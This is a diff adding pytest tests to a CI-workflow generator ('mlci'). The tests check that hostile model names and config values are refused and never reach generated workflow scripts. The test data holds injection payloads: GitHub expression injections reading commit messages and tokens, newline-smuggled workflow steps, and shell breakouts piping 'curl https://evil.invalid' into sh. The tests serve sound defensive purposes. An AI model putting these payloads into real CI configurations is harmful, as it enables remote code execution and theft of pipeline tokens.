@@ -7,6 +7,7 @@ with every `${{ ... }}` expression and every event-derived variable set to a hos
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import subprocess
@@ -17,6 +18,7 @@ import pytest
 import yaml
 
 from mlci.ci.generate import rendered
+from support.commands import mlci
 from support.projects import VARIANTS, make_project
 
 EXPRESSION = re.compile(r"\$\{\{.*?\}\}", re.DOTALL)
@@ -141,3 +143,75 @@ def test_the_harness_catches_an_injectable_step(tmp_path: Path) -> None:
     runner = Runner(tmp_path / "run", payloads(canary)[0])
     run_github_step(runner, {"run": 'echo "${{ github.event.pull_request.title }}"'})
     assert Path(f"{canary}1").exists()
+
+
+# Values that would reach a generated file from mlci.yaml or dvc.yaml, as an attacker (or a
+# careless edit) writes them: each must be refused with the file, the key and a hint, and no
+# file may be written. (Before whole-string checks, a model name went into `run:` and a stage
+# with a newline became a new step of the publish job, which holds `contents: write`.)
+HOSTILE_MODELS = [
+    "m${{ github.event.head_commit.message }}",
+    "m\n      - run: curl https://evil.invalid | sh",
+    "m'; curl https://evil.invalid | sh; '",
+    "m\u2028x",
+]
+
+
+@pytest.mark.parametrize("name", HOSTILE_MODELS)
+def test_a_hostile_model_name_in_dvc_yaml_is_refused(tmp_path: Path, name: str) -> None:
+    root = make_project(tmp_path / "proj", "default")
+    with (root / "dvc.yaml").open("a") as handle:
+        handle.write(f"  {json.dumps(name)}:\n    path: models/model.pkl\n    type: model\n")
+    result = mlci("ci", "generate", cwd=root, expect=1)
+    assert f"mlci: error: dvc.yaml: artifacts: {name!r}: not a valid model name" in result.stderr
+    assert "hint: model names are letters, digits, '-', '_' and '/'" in result.stderr
+    assert "Traceback" not in result.stderr
+    assert not (root / ".github").exists() and not (root / ".gitlab-ci.yml").exists()
+
+
+@pytest.mark.parametrize(("setting", "key"), [
+    ("publish:\n  stages: [\"staging\\n      - run: env\", prod]\n", "publish.stages[0]"),
+    ("publish:\n  compare_to: \"prod\\n\"\n", "publish.compare_to"),
+    ("publish:\n  compare_to: 'p${{ github.event.head_commit.message }}'\n",
+     "publish.compare_to"),
+    ("default_branch: \"main\\n    tags: ['*']\"\n", "default_branch"),
+    ("ci:\n  runs_on: ['${{ github.event.pull_request.title }}']\n", "ci.runs_on[0]"),
+    ("ci:\n  python: \"3.11\\n\"\n", "ci.python"),
+    ("ci:\n  dvc_remote_secrets: [github_token]\n", "ci.dvc_remote_secrets[0]"),
+    ("sweep:\n  params: {'a${{ github.token }}': [1]}\n  rank_by: x\n",
+     "sweep.params.a${{ github.token }}"),
+    ("sweep:\n  params: {train.C: ['$(curl https://evil.invalid)']}\n  rank_by: x\n",
+     "sweep.params.train.C[0]"),
+    ("sweep:\n  params: {train.C: [\"1\\n      - run: env\"]}\n  rank_by: x\n",
+     "sweep.params.train.C[0]"),
+    ("sweep:\n  params: {train.C: ['${CI_JOB_TOKEN}']}\n  rank_by: x\n",
+     "sweep.params.train.C[0]"),
+])
+def test_a_hostile_mlci_yaml_value_is_refused(tmp_path: Path, setting: str, key: str) -> None:
+    root = make_project(tmp_path / "proj", "default")
+    (root / "mlci.yaml").write_text(setting)
+    result = mlci("ci", "generate", cwd=root, expect=1)
+    assert re.search(rf"mlci: error: mlci\.yaml:\d+: {re.escape(key)}: not valid here: ",
+                     result.stderr), result.stderr
+    assert "\nhint: " in result.stderr and "Traceback" not in result.stderr
+    assert not (root / ".github").exists() and not (root / ".gitlab-ci.yml").exists()
+
+
+def test_names_reach_steps_only_through_env(tmp_path: Path) -> None:
+    """Model, stage and branch names are step environment, never text of a script."""
+    files = rendered(make_project(tmp_path / "proj", "hostile"))
+    scripts = [s["run"] for rel, text in files.items() if rel.startswith(".github/workflows/")
+               for s in github_steps(text)] + gitlab_scripts(files[".gitlab-ci.yml"])
+    for value in ("team/clf-2_b", "0model9", "classifier", "pre-prod_1/a", "release/v1.2-rc_3"):
+        assert not [s for s in scripts if value in s], value
+    publish = yaml.safe_load(files[".github/workflows/mlci-publish.yml"])["jobs"]["publish"]
+    steps = [s for s in publish["steps"] if s.get("run", "").startswith("mlci publish")]
+    assert [(s["name"], s["env"]["MLCI_MODEL"], s["env"]["MLCI_STAGE"]) for s in steps] == [
+        (f"Publish {m}", m, "pre-prod_1/a") for m in ("0model9", "classifier", "team/clf-2_b",
+                                                      "true")]
+    assert {s["run"] for s in steps} == {
+        'mlci publish "$MLCI_MODEL" --bump patch --stage "$MLCI_STAGE"'}
+    gitlab = yaml.safe_load(files[".gitlab-ci.yml"])["publish"]["variables"]
+    assert gitlab == {"MLCI_MODEL_1": "0model9", "MLCI_MODEL_2": "classifier",
+                      "MLCI_MODEL_3": "team/clf-2_b", "MLCI_MODEL_4": "true",
+                      "MLCI_STAGE": "pre-prod_1/a"}
